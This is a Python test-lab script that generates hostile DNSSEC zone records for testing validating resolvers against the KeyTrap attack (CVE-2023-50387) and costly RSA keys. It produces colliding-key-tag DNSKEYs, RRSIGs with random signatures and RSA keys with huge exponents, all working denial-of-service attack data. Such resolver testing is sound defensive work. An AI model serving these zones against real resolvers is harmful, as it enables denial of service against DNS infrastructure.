#!/usr/bin/env python3
"""tests/lab/hostile_zones.py - records for hostile zones (stdlib only).

Validators' KeyTrap class (CVE-2023-50387) and costly keys need zone data no
signer writes: many keys with one key tag, signatures that verify with
none of them, RSA keys with huge public exponents.  The records are made
here; tests/lab/hostile.sh signs the rest with real signers and NSD serves
what it is given.

  junk-keys ZONE ALG COUNT [TAG]   COUNT DNSKEYs of ALG (15 or 13) sharing one
                                   key tag (TAG, or that of the first), random
                                   public keys; prints the records, then the tag
                                   on stderr
  junk-sigs OWNER TYPE ALG TAG SIGNER COUNT INCEPTION EXPIRATION
                                   COUNT RRSIGs over OWNER/TYPE naming key TAG,
                                   with random signatures
  rsa-bigexp ZONE EXPBITS          a DNSKEY of algorithm 8 with a public
                                   exponent of EXPBITS bits and a 2048-bit
                                   modulus (random); its tag on stderr
Random bytes come from a seeded generator: the same command writes the same
records, so that figures can be compared between runs.
"""
import base64
import random
import struct
import sys

RNG = random.Random(20240213)
KEYLEN = {15: 32, 13: 64}
SIGLEN = {15: 64, 13: 64, 8: 256}


def keytag(rdata):
    """RFC 4034 Appendix B."""
    ac = 0
    for i, b in enumerate(rdata):
        ac += b << 8 if i % 2 == 0 else b
    ac += (ac >> 16) & 0xFFFF
    return ac & 0xFFFF


def rand(n):
    return bytes(RNG.getrandbits(8) for _ in range(n))


def key_with_tag(alg, tag):
    """Random public key bytes whose DNSKEY (flags 256) has key tag `tag`:
    the last two octets are solved for (they add one 16-bit word)."""
    n = KEYLEN[alg]
    for _ in range(64):
        head = struct.pack("!HBB", 256, 3, alg) + rand(n - 2)
        if tag is None:
            return head + rand(2)
        # The two octets sit at an even offset: they add (hi << 8 | lo).
        base = keytag(head + b"\0\0")
        for w in ((tag - base) % 65536, (tag - base - 1) % 65536):
            cand = head + struct.pack("!H", w)
            if keytag(cand) == tag:
                return cand
    raise SystemExit("no key found for tag %d" % tag)


def dnskey_line(zone, rdata):
    flags, proto, alg = struct.unpack("!HBB", rdata[:4])
    return "%s 300 IN DNSKEY %d %d %d %s" % (zone, flags, proto, alg,
                                            base64.b64encode(rdata[4:]).decode())


def junk_keys(zone, alg, count, tag=None):
    first = key_with_tag(alg, tag)
    tag = keytag(first)
    print(dnskey_line(zone, first))
    for _ in range(count - 1):
        print(dnskey_line(zone, key_with_tag(alg, tag)))
    sys.stderr.write("%d\n" % tag)


def junk_sigs(owner, rtype, alg, tag, signer, count, inception, expiration):
    labels = len([x for x in owner.rstrip(".").split(".") if x]) if owner != "." else 0
    for _ in range(count):
        print("%s 300 IN RRSIG %s %d %d 300 %s %s %d %s %s" % (
            owner, rtype, alg, labels, expiration, inception, tag, signer,
            base64.b64encode(rand(SIGLEN[alg])).decode()))


def rsa_bigexp(zone, expbits):
    elen = (expbits + 7) // 8
    e = bytearray(rand(elen))
    e[0] = (e[0] | 0x80) >> ((8 - expbits % 8) % 8) or 1  # exactly expbits bits
    e[-1] |= 1
    n = bytearray(rand(256))
    n[0] |= 0x80
    n[-1] |= 1
    # RFC 3110 §2: a zero octet and a two-octet length for exponents over 255 octets.
    pk = (struct.pack("!B", elen) if elen < 256 else struct.pack("!BH", 0, elen)) + bytes(e) + bytes(n)
    rdata = struct.pack("!HBB", 256, 3, 8) + pk
    print(dnskey_line(zone, rdata))
    sys.stderr.write("%d\n" % keytag(rdata))


def main(argv):
    if len(argv) >= 4 and argv[0] == "junk-keys":
        junk_keys(argv[1], int(argv[2]), int(argv[3]), int(argv[4]) if len(argv) > 4 else None)
    elif len(argv) == 9 and argv[0] == "junk-sigs":
        junk_sigs(argv[1], argv[2], int(argv[3]), int(argv[4]), argv[5], int(argv[6]), argv[7],
                  argv[8])
    elif len(argv) == 3 and argv[0] == "rsa-bigexp":
        rsa_bigexp(argv[1], int(argv[2]))
    else:
        sys.stderr.write(__doc__)
        return 2
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
